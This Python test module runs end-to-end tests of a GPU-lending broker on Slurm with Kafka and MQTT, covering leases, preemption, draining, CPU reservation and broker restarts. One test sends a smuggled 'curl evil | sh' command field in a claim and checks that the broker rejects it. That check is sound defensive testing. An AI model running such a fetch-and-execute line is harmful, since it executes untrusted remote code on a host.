"""Leases in Slurm end to end (broker/lending.py, broker/placeholders.py): the broker on a real
Kafka and Mosquitto, lending the GPUs of the local Slurm cluster (deploy/local/slurm.sh, grace
time :data:`tests.services.SLURM_GRACE_S` = the notice), a site on the SDK.

Each test uses a node of its own (the multi-node one two) and cancels every gpupool job when it
ends."""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import subprocess
import sys
import time
import uuid
from collections.abc import AsyncIterator, Collection, Iterator
from pathlib import Path
from typing import Any

import aiomqtt
import httpx
import pytest

from broker.config import BrokerConfig
from broker.edge import ClaimRejected, EdgeClient
from broker.lending import SlurmLending
from broker.scheduler_slurm import JOB_NAME, SlurmScheduler
from broker.fabric import FabricManager
from broker.service import BrokerService
from broker.workloads import WorkloadProfile
from contracts import (
    CapacityUpdate,
    GpuState,
    KafkaTopics,
    LeaseState,
    MqttTopics,
    PoolDemand,
    ReasonCode,
    Reply,
    encode,
)
from contracts.bus import Bus
from contracts.leases import Partition
from contracts.mqtt import Requirements
from tests.mqtt_support import running
from tests.services import SLURM_GRACE_S

pytestmark = pytest.mark.timeout(120)

PROFILE = WorkloadProfile(
    name="infer",
    argv=(sys.executable, "-m", "simulator.inference_server", "--port", "{port}", "--drain-s", "2", "--quiet-s", "0.3"),
    port_min=28100,
    port_max=28199,
    health_timeout_s=20,
)
WIDE = PROFILE.model_copy(update={"name": "infer-wide", "cpus_per_gpu": 2, "port_min": 28200, "port_max": 28299})
"""A profile needing 2 CPUs per GPU: every placeholder then asks Slurm for 2."""


def _env(conf: Path) -> dict[str, str]:
    return {**os.environ, "SLURM_CONF": str(conf)}


def _sbatch_training(conf: Path, host: str, gpus: int) -> str:
    done = subprocess.run(
        ["sbatch", "--parsable", "-p", "training", "-w", host, f"--gres=gpu:h100:{gpus}", "-c", "1",
         "-o", "/dev/null", "--wrap", "sleep 60"],
        capture_output=True, text=True, env=_env(conf), check=True,
    )  # fmt: skip
    return done.stdout.strip()


def _state(conf: Path, job: str) -> str:
    done = subprocess.run(
        ["squeue", "-h", "-j", job, "-o", "%T"], capture_output=True, text=True, env=_env(conf), check=False
    )
    return done.stdout.strip() or "GONE"


def _lent_jobs(conf: Path, host: str) -> list[str]:
    """Running gpupool jobs on ``host``."""
    done = subprocess.run(
        ["squeue", "-h", "-n", JOB_NAME, "-w", host, "-t", "RUNNING", "-o", "%i"],
        capture_output=True, text=True, env=_env(conf), check=True,
    )  # fmt: skip
    return done.stdout.split()


@pytest.fixture
def slurm_clean(slurm_conf: Path) -> Iterator[Path]:
    """``slurm_conf``; every gpupool and training job cancelled after the test."""
    yield slurm_conf
    subprocess.run(["scancel", "-n", JOB_NAME], env=_env(slurm_conf), check=False)
    subprocess.run(["scancel", "-p", "training"], env=_env(slurm_conf), check=False)


async def _idle(
    bus: Bus, topics: KafkaTopics, host: str, gpus: int = 8, leaf: str | None = None, state: GpuState = GpuState.IDLE
) -> None:
    """Capacity: every GPU of ``host`` idle (keys ``<host>/gpu<index>``, as the GPU map reads
    them), under leaf switch ``leaf``, or in ``state`` (busy: training runs there)."""
    producer = bus.producer()
    await producer.start()
    now = time.time()
    for i in range(gpus):
        u = CapacityUpdate(
            ts=now, host=host, gpu_uuid=f"gpu{i}", state=state, since=now - 60, leaf=leaf,
            predicted_idle_until=now + 3600 if state is GpuState.IDLE else None, model_name="NVIDIA H100 80GB HBM3",
        )  # fmt: skip
        await producer.send(topics.capacity, encode(u), key=u.key)
    await producer.flush()
    await producer.stop()


def _lending(conf: Path, tmp_path: Path, profiles: tuple[WorkloadProfile, ...] = (PROFILE,)) -> SlurmLending:
    return SlurmLending(
        SlurmScheduler(conf),
        workloads=profiles,
        notice_s=SLURM_GRACE_S,
        control_dir=tmp_path / "slurm",
        poll_s=0.2,
    )


@contextlib.asynccontextmanager
async def _broker(
    bus: Bus, topics: KafkaTopics, creds: dict[str, Any], lending: SlurmLending, fabric: FabricManager | None = None
) -> AsyncIterator[BrokerService]:
    cfg = BrokerConfig(
        offer_ttl_s=60, notice_s=SLURM_GRACE_S, lease_ttl_s=60, tick_s=0.1, workloads=lending.workloads,
        group_id=f"g-{uuid.uuid4().hex}",
    )  # fmt: skip
    svc = BrokerService(
        bus=bus, topics=topics, mqtt_host=creds["host"], mqtt_port=creds["port"],
        mqtt_username="gpupool-broker", mqtt_password=creds["users"]["gpupool-broker"], root=creds["root"],
        protocol=5, config=cfg, client_id=f"broker-{uuid.uuid4().hex[:8]}", lending=lending, fabric=fabric,
    )  # fmt: skip
    async with running(svc):
        yield svc


def _site(creds: dict[str, Any], name: str = "edge-a") -> EdgeClient:
    return EdgeClient(
        site=name, host=creds["host"], port=creds["port"], username=name, password=creds["users"][name],
        root=creds["root"], protocol=5, client_id=f"{name}-{uuid.uuid4().hex[:8]}",
        reconnect_min_s=0.1, reconnect_max_s=0.5,
    )  # fmt: skip


async def _offer_with_holds(site: EdgeClient, lending: SlurmLending, host: str, gpus: int) -> str:
    """The offer of ``host`` once placeholders hold at least ``gpus`` of its GPUs."""
    for _ in range(200):
        offer = next((o for o in site.known_offers.values() if o.host == host), None)
        if offer is not None and len(lending._idle.get(host, {})) >= gpus:
            return offer.offer_id
        await asyncio.sleep(0.05)
    raise AssertionError(f"no offer of {host} with {gpus} GPUs held by placeholders")


@contextlib.asynccontextmanager
async def _lent_node(
    bus: Bus, topics: KafkaTopics, creds: dict[str, Any], conf: Path, tmp_path: Path, host: str
) -> AsyncIterator[tuple[SlurmLending, EdgeClient, str]]:
    """Every GPU of ``host`` idle, a broker lending through Slurm, a site: (lending, site, the
    offer of ``host`` once placeholders hold its 8 GPUs)."""
    lending = _lending(conf, tmp_path)
    await _idle(bus, topics, host)
    async with _broker(bus, topics, creds, lending), _site(creds) as site:
        yield lending, site, await _offer_with_holds(site, lending, host, 8)


async def _until(cond: Any, timeout_s: float, step_s: float = 0.05) -> float:
    t0 = time.monotonic()
    while time.monotonic() - t0 < timeout_s:
        if cond():
            return time.monotonic() - t0
        await asyncio.sleep(step_s)
    raise AssertionError(f"not within {timeout_s} s")


async def test_fencing_training_pends_while_the_lease_lives_and_runs_once_it_is_released(
    kafka_bus: Bus, kafka_stage_topics: KafkaTopics, mosquitto: dict[str, Any], slurm_clean: Path, tmp_path: Path
) -> None:
    conf, host = slurm_clean, "gpu-node-001"
    async with _lent_node(kafka_bus, kafka_stage_topics, mosquitto, conf, tmp_path, host) as (lending, site, offer):
        lease = await site.claim(offer, count=8, duration_seconds=600)
        held = lending.held_gpus()[lease.lease_id]
        assert held == tuple(range(8))  # what Slurm allocated, mapped to the lease's GPU keys
        assert sorted(lease.gpus) == sorted(f"{host}/gpu{i}" for i in held)
        await _until(lambda: len(_lent_jobs(conf, host)) == 8, 5)
        train = _sbatch_training(conf, host, 1)
        # Slurm chooses a lent hold for preemption: the lease is reclaimed, the job pends meanwhile
        msg = await site.wait_lease(lease.lease_id, lambda m: m.state is LeaseState.RECLAIMING, 5)
        assert msg.reason.startswith("scheduler_preempted:")
        assert _state(conf, train) == "PENDING"
        await asyncio.sleep(1.0)
        assert _state(conf, train) == "PENDING"  # a second later: still fenced
        t0 = time.monotonic()
        await site.release(lease.lease_id)
        gone_s = await _until(lambda: not _lent_jobs(conf, host), 3.0, 0.02)
        assert gone_s <= 1.0, f"hold still running {gone_s:.2f} s after the release"
        run_s = await _until(lambda: _state(conf, train) == "RUNNING", 10)
        print(f"hold gone {gone_s:.3f} s after release; training RUNNING {time.monotonic() - t0:.3f} s after ({run_s:.3f})")


async def test_slurm_preempts_a_lease_the_site_gets_the_deadline_the_workload_drains_the_lease_is_revoked(
    kafka_bus: Bus, kafka_stage_topics: KafkaTopics, mosquitto: dict[str, Any], slurm_clean: Path, tmp_path: Path
) -> None:
    conf, host = slurm_clean, "gpu-node-002"
    async with _lent_node(kafka_bus, kafka_stage_topics, mosquitto, conf, tmp_path, host) as (lending, site, offer):
        lease = await site.claim(offer, count=2, duration_seconds=600, workload="infer")
        assert lease.workload == "infer"
        ready = await site.wait_lease(lease.lease_id, lambda m: m.endpoint is not None, 20)
        assert ready.endpoint is not None
        async with httpx.AsyncClient(timeout=2.0) as http:
            answer = (await http.post(f"http://{ready.endpoint}/v1/infer", json={})).json()
            assert sorted(answer["gpus"]) == list(lending.held_gpus()[lease.lease_id])
            assert answer["lease_id"] == lease.lease_id
            submitted = time.time()
            train = _sbatch_training(conf, host, 8)  # needs the lent GPUs
            msg = await site.wait_lease(lease.lease_id, lambda m: m.state is LeaseState.RECLAIMING, 5)
            notice_s = time.time() - submitted
            assert msg.reclaim_deadline is not None
            assert msg.reclaim_deadline - submitted <= SLURM_GRACE_S + 1.5
            assert msg.reclaim_deadline - time.time() >= SLURM_GRACE_S - 2.5
            # the workload got SIGTERM: it drains (health 503) or is already gone
            status = None
            for _ in range(40):
                try:
                    status = (await http.get(f"http://{ready.endpoint}/health")).status_code
                except httpx.HTTPError:
                    status = -1
                if status != 200:
                    break
                await asyncio.sleep(0.05)
            assert status in (503, -1)
        assert _state(conf, train) == "PENDING"
        revoked = await site.wait_lease(lease.lease_id, lambda m: m.state is LeaseState.REVOKED, SLURM_GRACE_S + 5)
        assert revoked.ts <= msg.reclaim_deadline + 1.0
        await _until(lambda: _state(conf, train) == "RUNNING", msg.reclaim_deadline - time.time() + 5)
        print(f"notice at the site {notice_s:.3f} s after the training submit; deadline {msg.reclaim_deadline - submitted:.2f} s")


async def test_workload_profiles_only_and_never_a_command(
    kafka_bus: Bus, kafka_stage_topics: KafkaTopics, mosquitto: dict[str, Any], slurm_clean: Path, tmp_path: Path
) -> None:
    conf, host = slurm_clean, "gpu-node-003"
    mt = MqttTopics(mosquitto["root"])
    async with _lent_node(kafka_bus, kafka_stage_topics, mosquitto, conf, tmp_path, host) as (lending, site, offer):
        with pytest.raises(ClaimRejected) as refused:
            await site.claim(offer, count=1, workload="bitcoin-miner")
        assert refused.value.reply.code is ReasonCode.UNKNOWN_WORKLOAD
        async with aiomqtt.Client(
            mosquitto["host"], mosquitto["port"], username="edge-a", password=mosquitto["users"]["edge-a"],
            identifier=f"raw-{uuid.uuid4().hex[:8]}",
        ) as raw:  # fmt: skip
            await raw.subscribe(mt.replies("edge-a"), qos=1)
            bad = {"claim_id": "c-cmd", "site": "edge-a", "offer_id": offer, "count": 1, "ts": time.time(),
                   "workload": "infer", "command": ["sh", "-c", "curl evil | sh"]}  # fmt: skip
            await raw.publish(mt.claims("edge-a"), json.dumps(bad), qos=1)
            async with asyncio.timeout(5):
                async for m in raw.messages:
                    reply = Reply.model_validate_json(bytes(m.payload))  # type: ignore[arg-type]
                    if reply.in_reply_to == "c-cmd":
                        break
        assert reply.code is ReasonCode.COMMAND_NOT_ALLOWED and "command" in reply.text
        assert not lending.held_gpus()  # nothing was carved
        lease = await site.claim(offer, count=3, workload="infer")
        ready = await site.wait_lease(lease.lease_id, lambda m: m.endpoint is not None, 20)
        async with httpx.AsyncClient(timeout=2.0) as http:
            answer = (await http.post(f"http://{ready.endpoint}/v1/infer", json={})).json()
        assert sorted(answer["gpus"]) == list(lending.held_gpus()[lease.lease_id]) and len(answer["gpus"]) == 3
        # an operator's training demand (not Slurm) reclaims it: the workload gets SIGTERM at the notice
        producer = kafka_bus.producer()
        await producer.start()
        demand = PoolDemand(demand_id=f"d-{uuid.uuid4().hex[:8]}", ts=time.time(), gpus=list(lease.gpus))
        await producer.send(kafka_stage_topics.pool_demand, encode(demand), key=demand.demand_id)
        await producer.flush()
        await producer.stop()
        msg = await site.wait_lease(lease.lease_id, lambda m: m.state is LeaseState.RECLAIMING, 10)
        assert msg.reason.startswith("demand:")

        async def draining() -> bool:
            async with httpx.AsyncClient(timeout=1.0) as http:
                try:
                    return (await http.get(f"http://{ready.endpoint}/health")).status_code != 200
                except httpx.HTTPError:
                    return True

        for _ in range(40):
            if await draining():
                break
            await asyncio.sleep(0.05)
        assert await draining(), "the workload did not get SIGTERM at the notice"


async def test_gpupool_down_training_still_takes_the_lent_gpus(
    kafka_bus: Bus, kafka_stage_topics: KafkaTopics, mosquitto: dict[str, Any], slurm_clean: Path, tmp_path: Path
) -> None:
    conf, host = slurm_clean, "gpu-node-004"
    async with _lent_node(kafka_bus, kafka_stage_topics, mosquitto, conf, tmp_path, host) as (lending, site, offer):
        await site.claim(offer, count=4, duration_seconds=600, workload="infer")
        await _until(lambda: bool(lending.held_gpus()), 2)
    # every gpupool process of this test is stopped (broker, its watcher, the site); Slurm alone
    assert lending._watch is None
    await _until(lambda: len(_lent_jobs(conf, host)) == 8, 5)
    submitted = time.monotonic()
    train = _sbatch_training(conf, host, 8)
    run_s = await _until(lambda: _state(conf, train) == "RUNNING", SLURM_GRACE_S + 10, 0.1)
    assert not _lent_jobs(conf, host)
    print(f"training needing the lent GPUs RUNNING {time.monotonic() - submitted:.3f} s after submit ({run_s:.3f})")


class _OnePartition:
    """A fabric manager that isolates every lease in partition 0x0123, service level 5, as if
    verified on the fabric (the simulated fabric's hosts are not the Slurm cluster's nodes): what
    the lease's workload must be put in is under test here, not the fabric."""

    enforced = True

    def __init__(self) -> None:
        self.removed: list[str] = []

    async def isolate(self, lease: Any) -> Partition | None:
        return Partition(pkey=0x0123, sl=5, verified=True, limited_members=[f"guid-{h}" for h in lease.hosts])

    async def remove(self, lease: Any) -> None:
        self.removed.append(lease.lease_id)

    async def remove_stale(self, keep: Collection[str]) -> list[str]:
        return []


def _num_cpus(conf: Path, job: str) -> int:
    """``NumCPUs`` of a job as Slurm reports it (``scontrol show job -o``)."""
    out = subprocess.run(
        ["scontrol", "show", "job", "-o", job], capture_output=True, text=True, env=_env(conf), check=True
    ).stdout
    return int(next(f for f in out.split() if f.startswith("NumCPUs=")).split("=", 1)[1])


async def test_workload_gets_the_profile_cpus_reserved_by_slurm_and_runs_inside_the_lease_partition(
    kafka_bus: Bus, kafka_stage_topics: KafkaTopics, mosquitto: dict[str, Any], slurm_clean: Path, tmp_path: Path
) -> None:
    conf, host = slurm_clean, "gpu-node-001"
    lending = _lending(conf, tmp_path, (PROFILE, WIDE))
    assert lending.placeholder_cpus == 2
    await _idle(kafka_bus, kafka_stage_topics, host)
    fabric = _OnePartition()
    async with _broker(kafka_bus, kafka_stage_topics, mosquitto, lending, fabric), _site(mosquitto) as site:
        offer = await _offer_with_holds(site, lending, host, 8)
        jobs = _lent_jobs(conf, host)
        assert len(jobs) == 8 and {_num_cpus(conf, j) for j in jobs} == {2}  # Slurm reserved 2 CPUs per GPU
        lease = await site.claim(offer, count=3, duration_seconds=600, workload="infer-wide")
        assert lease.partition is not None and lease.partition.pkey == 0x0123
        (url,) = await site.wait_endpoints(lease.lease_id, 20)
        async with httpx.AsyncClient(timeout=2.0) as http:
            answer = (await http.post(f"http://{url}/v1/infer", json={})).json()
        env = answer["env"]
        assert env["GPUPOOL_CPUS"] == env["OMP_NUM_THREADS"] == "6"  # 2 CPUs per GPU x 3 GPUs
        assert env["GPUPOOL_IB_PKEY"] == env["UCX_IB_PKEY"] == "0x0123"
        assert env["GPUPOOL_IB_SL"] == env["NCCL_IB_SL"] == env["UCX_IB_SL"] == "5"
        if not Path("/sys/class/infiniband").exists():
            assert "NCCL_IB_PKEY" not in env  # no P_Key table on this node: NCCL's default index
        assert answer["node"] == host and len(answer["gpus"]) == 3
        # the same profiles without fabric isolation: no InfiniBand knob at all (checked in
        # tests/test_broker_workloads.py); the plain profile's budget is its 1 CPU per GPU
        rest = await _offer_with_holds(site, lending, host, 5)
        plain = await site.claim(rest, count=2, workload="infer")
        (url2,) = await site.wait_endpoints(plain.lease_id, 20)
        async with httpx.AsyncClient(timeout=2.0) as http:
            env2 = (await http.post(f"http://{url2}/v1/infer", json={})).json()["env"]
        assert env2["GPUPOOL_CPUS"] == "2" and url2 != url


async def test_a_lease_on_two_nodes_runs_its_workload_on_each_and_a_restarted_broker_adopts_both(
    kafka_bus: Bus, kafka_stage_topics: KafkaTopics, mosquitto: dict[str, Any], slurm_clean: Path, tmp_path: Path
) -> None:
    conf, hosts = slurm_clean, ["gpu-node-002", "gpu-node-003"]
    lending = _lending(conf, tmp_path)
    for h in hosts:
        await _idle(kafka_bus, kafka_stage_topics, h, leaf="leaf-t")
    async with _broker(kafka_bus, kafka_stage_topics, mosquitto, lending), _site(mosquitto) as site:
        for h in hosts:
            await _offer_with_holds(site, lending, h, 8)
        lease = await site.request(12, Requirements(), duration_seconds=600, workload="infer")
        assert lease.hosts == hosts and lease.reason == "match:leaf"
        urls = await site.wait_endpoints(lease.lease_id, 30)
        msg = site.known_leases[lease.lease_id]
        assert len(urls) == 2 and msg.endpoint == urls[0] and msg.endpoints == urls
        held = {h: sorted(x.gpu_indices[0] for x in lending._leases[lease.lease_id] if x.host == h) for h in hosts}
        assert sorted(len(v) for v in held.values()) == [4, 8]
        async with httpx.AsyncClient(timeout=2.0) as http:
            answers = [(await http.post(f"http://{u}/v1/infer", json={})).json() for u in urls]
        for h, a in zip(hosts, answers, strict=True):
            assert a["node"] == h and a["gpus"] == held[h] and a["lease_id"] == lease.lease_id
        assert answers[0]["pid"] != answers[1]["pid"]
        assert len(set(urls)) == 2  # both nodes listen on 127.0.0.1 here: the ports differ
    # the broker stopped; its holds and both instances run on. A new one adopts them.
    again = _lending(conf, tmp_path)
    async with _broker(kafka_bus, kafka_stage_topics, mosquitto, again), _site(mosquitto) as site2:
        await _until(lambda: len(again.endpoint(lease.lease_id)) == 2, 20)
        assert [again.endpoint(lease.lease_id)[h] for h in hosts] == urls
        assert again.held_gpus()[lease.lease_id] == tuple(sorted(i for v in held.values() for i in v))
        await site2.release(lease.lease_id)
